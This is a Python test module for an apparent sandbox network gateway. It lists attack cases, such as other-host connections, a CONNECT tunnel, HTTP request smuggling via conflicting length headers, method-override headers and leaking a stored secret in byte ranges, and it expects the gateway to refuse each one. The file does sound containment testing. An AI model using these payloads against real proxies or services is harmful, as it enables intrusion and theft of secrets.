"""Programs with network access that try to get more: other hosts, writes, and a secret's value.

`OPEN` is the environment variable with the URL of a service that the programs may read from. A
connection to any other host counts as a loss.
"""

from __future__ import annotations

from fumehood.attack.attack import Attack, Harm, Language, Topic, ends, raises

PYTHON, NETWORK = Language.PYTHON, Topic.NETWORK

FETCH = """
import json, os, socket, urllib.error, urllib.request
OPEN, KEY = os.environ['OPEN'], os.environ['SECRET']
PROXY = ('127.0.0.1', int(os.environ['HTTP_PROXY'].split(':')[2]))
for name in ('NO_PROXY', 'no_proxy'): del os.environ[name]  # all hosts here are on loopback
def fetch(url, data=None, method=None, **headers):
    asked = urllib.request.Request(url, data, headers, method=method)
    try:
        with urllib.request.urlopen(asked, timeout=5) as answer:
            return answer.status, answer.read().decode()
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode()
def raw(*pieces):
    with socket.create_connection(PROXY, 5) as own:
        for piece in pieces: own.sendall(piece.replace('OPEN', OPEN[7:]).encode())
        own.shutdown(socket.SHUT_WR)
        told = b''
        while piece := own.recv(4096): told += piece
    return told.decode('latin-1')
"""
GET = "GET http://OPEN/ HTTP/1.1\\r\\nHost: OPEN\\r\\n"
KEEP = FETCH + "fetch(OPEN + '/?keep', Authorization='Bearer ' + KEY)\n"
PARTS = """
RANGES = ('Range', 'Request-Range', 'REQUEST_RANGE', 'x-ms-range')
def parts(path, headers):
    found = [fetch(OPEN + path.format(n=n), **headers(n)) for n in range(0, 70, 7)]
    print(''.join(text for _, text in found))
    return [status for status, _ in found]
"""
READ = FETCH + "fetch(OPEN)[0]"
READ_RAW = FETCH + f"raw('{GET}Connection: close\\r\\n\\r\\n').count(' 200 ')"


def _refused(
    name: str,
    harm: Harm,
    tries: str,
    code: str,
    *,
    status: int = 403,
    twin: str = READ,
    twin_gives: object = 200,
    quick: bool = False,
) -> Attack:
    """Return an attack whose request the gateway must refuse with the HTTP status `status`. The
    other arguments are fields of `Attack`.
    """
    return Attack(
        name, NETWORK, harm, tries, PYTHON, code=FETCH + code, expected=ends("ok", gives=status),
        twin=twin, twin_gives=twin_gives, is_quick=quick,
    )  # fmt: skip


ATTACKS = (
    _refused(
        "other-host", Harm.EXFIL, "send to a host that its call did not name",
        "fetch('http://127.0.0.1:@PORT@/@KNOCK@')[0]", quick=True,
    ),
    _refused(
        "private-name", Harm.LATERAL, "reach this host by an allowed name that leads to it",
        "fetch('http://localhost:@PORT@/@KNOCK@')[0]", quick=True,
    ),
    _refused(
        "redirect", Harm.LATERAL, "let an allowed host redirect it to another one",
        "fetch(OPEN + '/?to=http://127.0.0.1:@PORT@/@KNOCK@')[0]",
        twin=FETCH + "fetch(OPEN + '/?to=' + OPEN + '/again')[0]",
    ),
    Attack(
        "around-the-gateway", NETWORK, Harm.EXFIL, "connect without the gateway", PYTHON,
        code=FETCH + "with socket.create_connection(('127.0.0.1', @PORT@), 2) as own:\n"
        "    own.sendall(b'@KNOCK@')",
        expected=raises("ConnectionRefusedError"), twin=READ, twin_gives=200, is_quick=True,
    ),
    Attack(
        "raw-tunnel", NETWORK, Harm.EXFIL, "send what is no request through a tunnel", PYTHON,
        code=FETCH + "ask = 'CONNECT localhost:@PORT@ HTTP/1.1\\r\\nHost: localhost\\r\\n\\r\\n'\n"
        "raw(ask, '@KNOCK@').count(' 200 ')",
        expected=ends("ok", gives=1),  # the answer to CONNECT, and nothing after it
        twin=READ_RAW, twin_gives=1,
    ),
    Attack(
        "other-host-header", NETWORK, Harm.EXFIL, "name another host than its connection is for",
        PYTHON,
        code=FETCH + "raw('GET http://OPEN/@KNOCK@ HTTP/1.1\\r\\n'"
        " 'Host: 127.0.0.1:@PORT@\\r\\n\\r\\n').count(' 400 ')",
        expected=ends("ok", gives=1), twin=READ_RAW, twin_gives=1,
    ),
    _refused(
        "write", Harm.INTEGRITY, "change something without anybody's yes",
        "fetch(OPEN, b'x')[0]", quick=True,
    ),
    _refused(
        "delete", Harm.INTEGRITY, "delete something without anybody's yes",
        "fetch(OPEN, method='DELETE')[0]",
    ),
    _refused(
        "write-as-read", Harm.INTEGRITY, "put a write into a read's body",
        "fetch(OPEN, b'POST / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n', 'GET')[0]",
    ),
    _refused(
        "overridden-method", Harm.INTEGRITY, "let a header make a write of a read",
        "fetch(OPEN, **{'X-HTTP-Method-Override': 'DELETE'})[0]",
    ),
    _refused(
        "overridden-method-with-underscores", Harm.INTEGRITY,
        "let a header that servers read like another make a write of a read",
        "fetch(OPEN, X_HTTP_Method_Override='DELETE')[0]", quick=True,
        twin=FETCH + "fetch(OPEN, X_Note='DELETE')[0]",
    ),
    Attack(
        "smuggled-request", NETWORK, Harm.INTEGRITY, "hide a request behind two lengths", PYTHON,
        code=FETCH + f"raw('{GET}Content-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n"
        "0\\r\\n\\r\\nDELETE http://OPEN/ HTTP/1.1\\r\\nHost: OPEN\\r\\n\\r\\n').count(' 200 ')",
        expected=ends("ok", gives=0), twin=READ_RAW, twin_gives=1,
    ),
    Attack(
        "echoed-secret", NETWORK, Harm.HOST_LEAK, "let a host tell the value of a secret", PYTHON,
        code=FETCH + "fetch(OPEN, Authorization=KEY)[1]",
        expected=ends("ok"),  # the answer is searched for the secret word
        twin=FETCH + "'[redacted]' in fetch(OPEN, Authorization=KEY)[1]", twin_gives=True,
        is_quick=True,
    ),
    Attack(
        "stored-secret", NETWORK, Harm.HOST_LEAK, "let a host tell the value of a secret later",
        PYTHON,
        code=KEEP + "fetch(OPEN + '/kept')[1]",
        expected=ends("ok", gives="Bearer [redacted]"),
        twin=FETCH + "fetch(OPEN + '/?keep', Authorization='none')\nfetch(OPEN + '/kept')[1]",
        twin_gives="none", is_quick=True,
    ),
    Attack(
        "secret-in-parts", NETWORK, Harm.HOST_LEAK, "get a stored secret in parts", PYTHON,
        code=KEEP + PARTS + "sorted({status for name in RANGES for status in parts(\n"
        "    '/kept', lambda n: {name: f'bytes={n}-{n + 6}'})})",
        expected=ends("ok", gives=[403]), twin=READ, twin_gives=200, is_quick=True,
    ),
    Attack(
        "secret-in-parts-of-the-hosts-choice", NETWORK, Harm.HOST_LEAK,
        "get a stored secret in parts that no header asks for", PYTHON,
        code=KEEP + PARTS + "sorted(set(parts('/kept?part={n}', lambda n: {})))",
        expected=ends("ok", gives=[502]), twin=READ, twin_gives=200,
    ),
    _refused(
        "secret-in-another-header", Harm.HOST_LEAK,
        "send a secret in a header that hosts store, which its operator did not name",
        "fetch(OPEN, X_Note=KEY)[0]", twin=FETCH + "fetch(OPEN, Authorization=KEY)[0]",
    ),
    Attack(
        "costly-search", NETWORK, Harm.HOST_DOS,
        "let the engine search long answers for a long header", PYTHON,
        code=FETCH + "long = 'Bearer ' + KEY + ' ' + 'a' * 16_000 + 'b'\n"
        "[fetch(OPEN + '/?fill=a', Authorization=long)[0] for _ in range(3)]",
        expected=ends("ok", gives=[200] * 3),
        twin=FETCH + "fetch(OPEN + '/?fill=a', Authorization=KEY)[0]", twin_gives=200,
        is_quick=True,
    ),
    _refused(
        "secret-elsewhere", Harm.HOST_LEAK, "put the placeholder of a secret into an address",
        "fetch(OPEN + '/' + KEY)[0]",
    ),
    Attack(
        "silent-connections", NETWORK, Harm.SELF_DOS, "hold 200 connections that say nothing",
        PYTHON,
        code=FETCH + "own = [socket.create_connection(PROXY, 5) for _ in range(200)]\n"
        "fetch(OPEN)[0]",
        expected=ends("ok", gives=200), twin=READ, twin_gives=200,
    ),
)  # fmt: skip
